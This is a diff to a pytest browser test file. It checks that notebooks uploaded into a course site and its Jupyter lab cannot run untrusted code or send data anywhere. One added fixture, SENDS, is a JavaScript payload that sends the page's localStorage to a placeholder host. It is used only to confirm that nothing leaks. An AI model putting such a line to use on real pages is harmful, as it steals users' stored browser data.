@@ -3,13 +3,16 @@
 import json
 
 import pytest
-from edition import serving
-from test_live_browser import DONE, ONE, Reader
+from edition import IS_OPEN, KEEP, PATIENCE, RESTORED, answer, serving
+from lab import HAS_RUN
+from test_edition_browser import PATH, RUN_ALL, SOURCES
+from test_live_browser import DONE, ONE, Reader, takes_in
 
 from sg_course.widgets.links import packed
 
 nightly = pytest.mark.nightly
 CELL = "353d824f"  # of page 01, in which a reader writes
+IMPORTS, PREDICTS = "imports-1", "3ec42f87"  # of page 01, whose code nobody can change there
 RULES = """from sg_course.widgets import PlayGame
 
 def halves(n):
@@ -108,6 +111,14 @@ OUTPUT = """class Mine:
     def _repr_html_(self):
         return {html!r} + "<b>Shown</b>"
 Mine()"""
+
+SENDS = """from IPython.display import Javascript, display
+display(Javascript("fetch('ELSEWHERE/stolen?' + encodeURIComponent(JSON.stringify(localStorage)))"))
+"""
+FOR_THE_LAB = """async work => (await import('./along.js')).forTheLab(
+    {cells: [{cell_type: 'code', id: 'a', source: '1'}, {cell_type: 'code', id: 'b', source: '2'}],
+     metadata: {}}, {old: {}, chosen: {}, widgets: {}, ...work})"""
+PATH_ALONG = "async () => (await import('./along.js')).pathAlong('a.ipynb')"
 
 
 class Noted(dict):
@@ -232,18 +243,66 @@ def test_what_is_shown_as_html_runs_and_fetches_nothing(opens, sites, name):
 
 @nightly
 def test_a_notebook_that_is_taken_in_reaches_nothing(opens, sites, tmp_path, site):
-    notebook = json.loads((site / "files" / f"{ONE}.ipynb").read_text("utf-8"))
-    for cell in notebook["cells"]:
-        if cell["id"] == CELL:
-            cell["source"] = addressed(IN_WORKER, sites)
-    file = tmp_path / "taken.ipynb"
-    file.write_text(json.dumps(notebook), "utf-8")
+    file = notebook_of(site, tmp_path, {CELL: addressed(IN_WORKER, sites)})
     stranger = opens(name="my")
-    stranger.page.get_by_label("Take in a notebook").set_input_files(file)
-    stranger.page.get_by_text("Taken in: ").wait_for()
+    assert "Taken in: " in takes_in(stranger, file)
     stranger.page.goto(f"{sites[0].address}/{ONE}.html")
     assert "7" in stranger.runs(CELL, opener=None)
     nothing_was_reached(stranger.page, sites)
+
+
+def notebook_of(site, folder, changes):
+    """The notebook of page 01 with other sources in some cells, as a file."""
+    notebook = json.loads((site / "files" / f"{ONE}.ipynb").read_text("utf-8"))
+    for cell in notebook["cells"]:
+        cell["source"] = changes.get(cell["id"], cell["source"])
+    (folder / "taken.ipynb").write_text(json.dumps(notebook), "utf-8")
+    return folder / "taken.ipynb"
+
+
+@pytest.mark.parametrize("has_run", [True, False])
+def test_what_came_in_a_file_is_no_code_in_the_lab_and_has_a_notebook_of_its_own(opens, has_run):
+    page = opens(name="my").page
+    work = {"cells": {"a": "mine", "b": "theirs"}, "taken": {"b": not has_run}}
+    cells = page.evaluate(FOR_THE_LAB, work)["cells"]
+    assert [(one["id"], one["cell_type"]) for one in cells] == [
+        *(("a", "code"), ("b", "code"), ("b-file", "raw"))
+    ]
+    head, theirs = cells[2]["source"].split("\n\n")
+    assert head.startswith("# From a file") and theirs == "theirs"
+    assert [one["source"] for one in cells[:2]] == ["mine", "2"]
+    page.evaluate(KEEP, ["a.ipynb", work])
+    before = page.evaluate(PATH_ALONG)
+    page.evaluate(KEEP, ["a.ipynb", work | {"taken": {}}])
+    assert before != page.evaluate(PATH_ALONG) != "a.ipynb"
+
+
+def test_of_a_file_only_cells_are_taken_in_that_one_sees_on_the_page(opens, site, tmp_path):
+    changes = {IMPORTS: "print(1)", PREDICTS: "print(2)", CELL: "print(3)"}
+    stranger = opens(name="my")
+    said = takes_in(stranger, notebook_of(site, tmp_path, changes))
+    assert "Left out: 2 cells that nobody can change on the page." in said
+    stranger.page.get_by_text(": 1 cell").wait_for()
+
+
+@nightly
+def test_a_notebook_that_is_taken_in_and_to_the_lab_sends_nothing(opens, sites, site, tmp_path):
+    """Its code is in the imports, in a prediction, and in a cell in which one writes."""
+    sends = addressed(SENDS, sites)
+    stranger = opens(name="my")
+    page = stranger.page
+    page.evaluate("() => localStorage.setItem('secret', 'kept')")
+    takes_in(stranger, notebook_of(site, tmp_path, dict.fromkeys((IMPORTS, PREDICTS, CELL), sends)))
+    page.set_default_timeout(PATIENCE)
+    page.goto(f"{stranger.address}/{ONE}.html")
+    page.get_by_role("link", name="Lab", exact=True).click()
+    page.wait_for_function("() => window.jupyterapp && !location.search")
+    answer(page, RESTORED)
+    page.wait_for_function(IS_OPEN, arg=page.evaluate(PATH))
+    page.evaluate(RUN_ALL)
+    page.wait_for_function(HAS_RUN)
+    nothing_was_reached(page, sites)
+    assert [text for text in page.evaluate(SOURCES) if text.startswith("# From a file")]
 
 
 def test_a_sum_of_5000_games_is_stopped_and_a_text_that_ends_python_is_said(opens):
